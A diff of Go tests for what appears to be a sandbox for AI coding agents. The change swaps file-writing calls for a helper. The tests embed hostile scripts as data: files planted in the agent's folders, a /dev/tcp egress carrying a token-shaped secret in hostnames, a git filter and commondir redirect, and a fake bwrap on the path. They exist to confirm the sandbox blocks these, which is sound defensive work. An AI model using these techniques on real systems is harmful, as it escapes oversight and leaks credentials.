@@ -12,6 +12,7 @@ import (
 
 	"github.com/runnel-dev/runnel"
 	"github.com/runnel-dev/runnel/internal/realagents"
+	"github.com/runnel-dev/runnel/internal/testexec"
 )
 
 // plants are files below the agent's own folders that make the agent run a
@@ -81,7 +82,7 @@ func TestToolInSandboxPlantsNothingInTheAgentsFolders(t *testing.T) {
 			before[path] = string(text)
 		}
 		script := "#!/bin/sh\nfor p in " + strings.Join(plants, " ") + "\ndo mkdir -p \"${p%/*}\"; echo planted > \"$p\"; done\necho over > over\n"
-		if err := os.WriteFile(filepath.Join(w.home.Project, "plant"), []byte(script), 0o700); err != nil {
+		if err := testexec.Write(filepath.Join(w.home.Project, "plant"), script); err != nil {
 			t.Fatal(err)
 		}
 		w.tool(w.enclosed(), "./plant")
@@ -127,7 +128,7 @@ func TestRecordOfEgressHasNoSecretsAndNoControlCharacters(t *testing.T) {
 	secret := "ghp_" + strings.Repeat("k7Q2", 9)
 	script := "#!/bin/bash\nfor h in " + secret + ".example.com %c2%9b31mred.example.com %e2%80%aeover.example.com\n" +
 		`do exec 3<>/dev/tcp/127.0.0.1/17318; printf 'CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n' $h >&3; read -r answer <&3; echo "$answer"; done > over` + "\n"
-	if err := os.WriteFile(filepath.Join(w.home.Project, "name"), []byte(script), 0o700); err != nil {
+	if err := testexec.Write(filepath.Join(w.home.Project, "name"), script); err != nil {
 		t.Fatal(err)
 	}
 	session := w.enclosed()
@@ -172,7 +173,7 @@ func TestSettingsOfGitFromASandboxAreNotFollowedByTheServer(t *testing.T) {
 cp -r .git elsewhere; echo '[filter "x"]' >> elsewhere/config; echo '	clean = "touch ` + escaped + `; cat"' >> elsewhere/config
 echo '* filter=x' > .gitattributes; echo two > file; echo ../elsewhere > .git/commondir; echo over > over
 `
-	if err := os.WriteFile(filepath.Join(project, "lead"), []byte(script), 0o700); err != nil {
+	if err := testexec.Write(filepath.Join(project, "lead"), script); err != nil {
 		t.Fatal(err)
 	}
 	session := w.enclosed()
@@ -200,7 +201,7 @@ func TestProjectCannotChooseTheProgramThatMakesSandboxes(t *testing.T) {
 	if err := os.Mkdir(bin, 0o700); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(filepath.Join(bin, "bwrap"), []byte("#!/bin/sh\ntouch "+escaped+"\nexec /usr/bin/bwrap \"$@\"\n"), 0o700); err != nil {
+	if err := testexec.Write(filepath.Join(bin, "bwrap"), "#!/bin/sh\ntouch "+escaped+"\nexec /usr/bin/bwrap \"$@\"\n"); err != nil {
 		t.Fatal(err)
 	}
 	for i, e := range w.prog.Env {
